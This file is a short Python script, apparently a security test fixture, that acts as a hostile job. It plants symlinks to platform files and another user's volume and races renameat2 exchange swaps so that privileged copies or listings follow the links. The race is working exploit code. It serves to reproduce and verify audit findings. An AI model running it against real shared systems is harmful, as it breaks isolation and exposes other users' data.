"""A hostile job (issue 30, findings 1 and 4): it plants links to the platform's files and another user's volume
in its own volume, then swaps them with real entries as fast as it can (renameat2 RENAME_EXCHANGE), so that a
privileged copy or listing that looks at an entry and then opens it goes through the link.

Env: LINKS (JSON {path: link target}), PAIRS (JSON [[a, b], ...] to swap), SECONDS (how long: bounded).
Prints "swapping" once ready and "swaps N" at the end.
"""

import ctypes
import json
import os
import time

libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD, RENAME_EXCHANGE = -100, 2
for path, target in json.loads(os.environ["LINKS"]).items():
    if os.path.lexists(path):
        os.unlink(path)
    os.symlink(target, path)
pairs = [(a.encode(), b.encode()) for a, b in json.loads(os.environ["PAIRS"])]
print("swapping", flush=True)
end, swaps = time.monotonic() + float(os.environ.get("SECONDS", "60")), 0
while time.monotonic() < end and not os.path.exists(os.environ.get("STOP", "/nonexistent")):
    for a, b in pairs:
        swaps += libc.renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0
print("swaps", swaps, flush=True)
